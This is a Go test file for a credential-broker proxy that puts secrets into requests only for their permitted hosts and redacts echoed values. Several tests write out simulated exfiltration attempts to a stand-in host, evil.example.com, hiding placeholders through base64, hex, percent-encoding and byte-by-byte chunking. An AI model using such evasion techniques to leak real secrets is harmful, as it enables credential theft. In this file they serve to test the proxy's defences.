package broker

import (
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/bailiwick-dev/bailiwick/api"
)

const secretValue = "real-value-0123456789"

// brokered returns a secret that is put into a header, and its placeholder.
func brokered(use api.Brokered) (Secret, string) {
	ph := NewPlaceholder("tok_")
	return Secret{Brokered: use, Placeholder: ph, Value: secretValue}, ph
}

func TestASecretIsPutInOnlyForItsHosts(t *testing.T) {
	header, ph := brokered(api.Brokered{Hosts: []string{"api.example.com:443"}, Header: "Authorization", Prefix: "Bearer "})
	w := newWorld(t, Config{Egress: []string{"api.example.com:443", "other.example.com:80"}, Secrets: []Secret{header}})
	w.host("other.example.com:80", echo)
	var got http.Header
	w.host("api.example.com:443", func(rw http.ResponseWriter, r *http.Request) {
		got = r.Header.Clone()
		_, _ = io.WriteString(rw, r.Proto)
	})
	r, _ := http.NewRequest(http.MethodGet, "https://api.example.com/repos?x=1", nil)
	r.Header.Set("Authorization", "Bearer "+ph)
	r.Header.Set("X-Api-Key", "smuggled")
	r.Header.Set("Cookie", "a=b")
	r.Header.Set("X-Other", "stays")
	if status, body := w.send(r); status != 200 || body != "HTTP/2.0" {
		t.Fatalf("%d %s", status, body)
	}
	if got.Get("Authorization") != "Bearer "+secretValue || got.Get("X-Api-Key")+got.Get("Cookie") != "" || got.Get("X-Other") != "stays" {
		t.Errorf("the server got %v", got)
	}
	if l := w.lines(1)[0]; l.Form != "tls" || l.Host != "api.example.com:443" || l.Path != "/repos" || l.Method != "GET" || l.Status != 200 {
		t.Errorf("record: %+v", l)
	}
	// Also for a client that does not send the placeholder, and over HTTP/1.1.
	c, _ := w.tunnel("api.example.com:443")
	s := tls.Client(c, &tls.Config{ServerName: "api.example.com", RootCAs: w.trust()})
	fmt.Fprint(s, "GET / HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n")
	if answer, err := io.ReadAll(s); err != nil || !strings.HasPrefix(string(answer), "HTTP/1.1 200") || got.Get("Authorization") != "Bearer "+secretValue {
		t.Errorf("%s %v, the server got %v", answer, err, got)
	}
	// The control: another host gets nothing.
	if _, body := w.get("http://other.example.com/"); strings.Contains(body, secretValue) || !strings.Contains(body, "auth= ") {
		t.Error(body)
	}
}

func TestASecretIsPutIntoAQueryOrAField(t *testing.T) {
	query, pq := brokered(api.Brokered{Hosts: []string{"q.example.com:443"}, Query: "api key"})
	field, pf := brokered(api.Brokered{Hosts: []string{"f.example.com:443"}, Field: "client_secret"})
	w := newWorld(t, Config{Egress: []string{"q.example.com:443", "f.example.com:443"}, Secrets: []Secret{query, field}})
	var got string
	save := func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		got = r.URL.RawQuery + "|" + string(body) + "|" + r.Header.Get("Content-Length")
	}
	w.host("q.example.com:443", save)
	w.host("f.example.com:443", save)
	send := func(url, media, body string) string {
		t.Helper()
		r, _ := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
		r.Header.Set("Content-Type", media)
		if status, answer := w.send(r); status != 200 {
			return answer
		}
		return got
	}
	if got := send("https://q.example.com/?a=%2f&api+key="+pq+"&b", "text/plain", "x"); got != "a=%2f&b&api+key="+secretValue+"|x|1" {
		t.Error(got)
	}
	if got := send("https://f.example.com/?z=1", "application/json; charset=utf-8", `{"a": [1, {"client_secret": 2}], "client_secret" : "`+pf+`", "é": 1e400}`); got != `z=1|{"a": [1, {"client_secret": 2}], "client_secret" : "`+secretValue+`", "é": 1e400}|88` {
		t.Error(got)
	}
	if got := send("https://f.example.com/", "application/x-www-form-urlencoded", "a=1&client_secret="+pf+"&b=%20"); !strings.HasPrefix(got, "|a=1&client_secret="+secretValue+"&b=%20|") {
		t.Error(got)
	}
	if got := send("https://f.example.com/", "application/json", `[1]`); !strings.HasPrefix(got, "|[1]|") {
		t.Error(got)
	}
	for media, body := range map[string]string{
		"text/plain":                        pf,
		"application/json":                  `{"other": "` + pf + `"}`,
		"application/x-www-form-urlencoded": "client_secret=1&other=" + pf,
	} {
		if got := send("https://f.example.com/", media, body); !strings.Contains(got, "goes into the field client_secret of the body") {
			t.Error(got)
		}
	}
	if got := send("https://f.example.com/", "application/json", `{"client_secret": `); !strings.Contains(got, "not valid JSON") {
		t.Error(got)
	}
	if got := send("https://f.example.com/", "application/json", `"`+strings.Repeat("x", maxField)+`"`); !strings.Contains(got, "larger than") {
		t.Error(got)
	}
}

// Every way to send a placeholder to a host that it is not for is refused before the
// server gets a byte of it.
func TestAPlaceholderElsewhereIsRefused(t *testing.T) {
	secret, ph := brokered(api.Brokered{Hosts: []string{"api.example.com:443"}, Header: "Authorization"})
	other, otherPh := brokered(api.Brokered{Hosts: []string{"second.example.com:443"}, Header: "X-Token"})
	other.Value = "another-value-987654"
	w := newWorld(t, Config{Egress: []string{"api.example.com:443", "second.example.com:443", "evil.example.com:80"}, Secrets: []Secret{secret, other}})
	seen := make(chan string, 100)
	spy := func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		seen <- fmt.Sprint(r.URL, r.Header, string(body), r.Trailer)
	}
	w.host("evil.example.com:80", spy)
	w.host("second.example.com:443", spy)
	w.host("api.example.com:443", spy)
	n := 0
	try := func(name string, r *http.Request) {
		t.Helper()
		status, body := w.send(r)
		n++
		if status != 0 && (status != 403 || !strings.Contains(body, "Retrying will not help")) {
			t.Errorf("%s: %d %s", name, status, body)
		}
		w.wantRefused(n, "placeholder")
		for len(seen) > 0 {
			if got := <-seen; strings.Contains(got, "bwk") || strings.Contains(got, ph[10:]) || strings.Contains(got, ph[10:20]) {
				t.Errorf("%s: the server got %s", name, got)
			}
		}
	}
	foreign := NewPlaceholder("") // of another dispatch
	for _, url := range []string{"http://evil.example.com/", "https://second.example.com/"} {
		for kind, p := range map[string]string{"own": ph, "foreign": foreign} {
			for name, form := range map[string]string{"plain": p, "base64": base64.StdEncoding.EncodeToString([]byte("x:" + p)), "hex": fmt.Sprintf("%x", p), "percent": "%62" + p[strings.Index(p, "wk-"):]} {
				name = kind + " " + name + " to " + url
				if kind == "own" && strings.HasPrefix(form, "%") {
					form = "tok_" + form
				}
				r, _ := http.NewRequest(http.MethodGet, url+"p/"+form, nil)
				try("path, "+name, r)
				r, _ = http.NewRequest(http.MethodGet, url+"?q="+form, nil)
				try("query, "+name, r)
				r, _ = http.NewRequest(http.MethodGet, url, nil)
				r.Header.Set("X-Leak", form)
				try("header, "+name, r)
				r, _ = http.NewRequest(http.MethodGet, url, nil)
				r.Header.Set("Authorization", "Bearer "+form)
				try("authorization, "+name, r)
				r, _ = http.NewRequest(http.MethodPost, url, strings.NewReader("a=b&c="+form))
				try("body, "+name, r)
				// Without a length, in chunks that split it everywhere.
				r, _ = http.NewRequest(http.MethodPost, url, io.MultiReader(strings.NewReader(strings.Repeat("x", 3*maxWhole)), &drip{text: form}))
				try("chunks, "+name, r)
			}
		}
		r, _ := http.NewRequest(http.MethodGet, url, nil)
		r.Header[foreign] = []string{"1"}
		try("header name to "+url, r)
	}
	// Its own host gets it nowhere but in its place, which is overwritten.
	r, _ := http.NewRequest(http.MethodPost, "https://api.example.com/"+ph, nil)
	try("own host, path", r)
	r, _ = http.NewRequest(http.MethodPost, "https://api.example.com/", nil)
	r.Header.Set("Authorization", otherPh)
	try("another secret's in the header", r)
	// The control: in its place it is replaced.
	r, _ = http.NewRequest(http.MethodGet, "https://api.example.com/", nil)
	r.Header.Set("Authorization", ph)
	if status, body := w.send(r); status != 200 {
		t.Errorf("control: %d %s", status, body)
	}
	if got := <-seen; !strings.Contains(got, secretValue) {
		t.Errorf("control: the server got %s", got)
	}
}

// drip yields one byte at a time.
type drip struct{ text string }

func (d *drip) Read(p []byte) (int, error) {
	if d.text == "" {
		return 0, io.EOF
	}
	p[0] = d.text[0]
	d.text = d.text[1:]
	return 1, nil
}

// A server that sends back what it got does not tell the agent the value.
func TestAnEchoedValueDoesNotReachTheAgent(t *testing.T) {
	secret, _ := brokered(api.Brokered{Hosts: []string{"api.example.com:443"}, Header: "X-Token"})
	w := newWorld(t, Config{Egress: []string{"api.example.com:443"}, Secrets: []Secret{secret}})
	w.host("api.example.com:443", func(rw http.ResponseWriter, r *http.Request) {
		v := r.Header.Get("X-Token")
		if v != secretValue {
			t.Errorf("the server got %q", v)
		}
		rw.Header().Set("X-Echo", v)
		rw.Header().Set("Location", "https://evil.example.com/?t="+v)
		rw.Header().Set("Trailer", "X-End")
		switch r.URL.Path {
		case "/drip":
			for i := range v {
				_, _ = io.WriteString(rw, v[i:i+1])
				_ = http.NewResponseController(rw).Flush()
			}
		case "/length":
			rw.Header().Set("Content-Length", fmt.Sprint(len(v)+4))
			_, _ = io.WriteString(rw, "<<"+v+">>")
		case "/gzip":
			rw.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(rw)
			_, _ = io.WriteString(z, v)
			_ = z.Close()
		case "/br":
			rw.Header().Set("Content-Encoding", "br")
			_, _ = io.WriteString(rw, v)
		default:
			for _, form := range encodings(v) {
				_, _ = io.WriteString(rw, form+"\n")
			}
		}
		rw.Header().Set("X-End", v)
	})
	for _, path := range []string{"/", "/drip", "/length", "/gzip", "/br"} {
		r, _ := http.NewRequest(http.MethodGet, "https://api.example.com"+path, nil)
		resp, err := w.client().Do(r)
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		all := fmt.Sprint(resp.Header, string(body), resp.Trailer)
		if err != nil || strings.Contains(all, secretValue) || strings.Contains(all, secretValue[4:12]) || strings.Contains(all, base64.StdEncoding.EncodeToString([]byte(secretValue))[:12]) {
			t.Errorf("%s: the agent got %s, %v", path, all, err)
		}
		if path == "/length" && string(body) != "<<[redacted]***********>>" {
			t.Errorf("%s: %s", path, body)
		}
		if path == "/br" && resp.StatusCode != 502 {
			t.Errorf("%s: %d", path, resp.StatusCode)
		}
	}
}

// What is no value passes as it is, at once.
func TestAStreamThroughEndedTLSIsNotDelayed(t *testing.T) {
	secret, _ := brokered(api.Brokered{Hosts: []string{"api.example.com:443"}, Header: "X-Token"})
	w := newWorld(t, Config{Egress: []string{"api.example.com:443"}, Secrets: []Secret{secret}})
	next := make(chan string)
	w.host("api.example.com:443", func(rw http.ResponseWriter, _ *http.Request) {
		_ = http.NewResponseController(rw).Flush()
		for text := range next {
			_, _ = io.WriteString(rw, text)
			_ = http.NewResponseController(rw).Flush()
		}
	})
	done := make(chan bool)
	go func() {
		defer close(done)
		resp, err := w.client().Get("https://api.example.com/")
		if err != nil {
			t.Error(err)
			return
		}
		defer resp.Body.Close()
		for range 100 {
			want := "data: {\"n\": 1, \"real\": 2}\n\n"
			next <- want
			got := make([]byte, len(want))
			if _, err := io.ReadFull(resp.Body, got); err != nil || !bytes.Equal(got, []byte(want)) {
				t.Errorf("%q %v", got, err)
			}
		}
		close(next)
	}()
	select {
	case <-done:
	case <-time.After(20 * time.Second):
		t.Fatal("an event was held back")
	}
}

func TestTheCACertifiesOnlyItsHosts(t *testing.T) {
	if ca := newWorld(t, Config{Egress: []string{"a.example.com:443"}}).b.CA(); ca != nil {
		t.Errorf("without a secret: %s", ca)
	}
	secret, _ := brokered(api.Brokered{Hosts: []string{"api.example.com:443"}, Header: "X-Token"})
	w := newWorld(t, Config{Egress: []string{"api.example.com:443"}, Secrets: []Secret{secret}})
	leaf, err := w.b.vault.authority.leaf(target{"other.example.com", 443})
	if err != nil {
		t.Fatal(err)
	}
	good, _ := w.b.vault.authority.leaf(target{"api.example.com", 443})
	for c, want := range map[*tls.Certificate]bool{leaf: false, good: true} {
		err := verify(w, c)
		if (err == nil) != want {
			t.Errorf("want accepted %t, got %v", want, err)
		}
	}
}

func verify(w *world, c *tls.Certificate) error {
	leaf, err := x509.ParseCertificate(c.Certificate[0])
	if err == nil {
		_, err = leaf.Verify(x509.VerifyOptions{Roots: w.trust()})
	}
	return err
}
